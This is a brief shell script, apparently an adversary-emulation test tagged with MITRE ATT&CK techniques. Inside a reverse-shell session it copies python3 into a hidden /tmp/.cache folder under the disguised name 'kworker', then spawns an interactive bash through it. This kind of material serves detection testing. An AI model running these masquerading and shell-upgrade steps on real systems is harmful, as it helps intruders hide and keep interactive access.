# A copy of the interpreter under a kernel thread name in a hidden folder.
# ATT&CK: T1059.006, T1059.004, T1036.003
. ./session.sh
reverse_shell <<'TYPED'
mkdir -p /tmp/.cache; cp /usr/bin/python3 /tmp/.cache/kworker
/tmp/.cache/kworker -c 'import pty; pty.spawn("/bin/bash")'
id
tty
exit
exit
TYPED
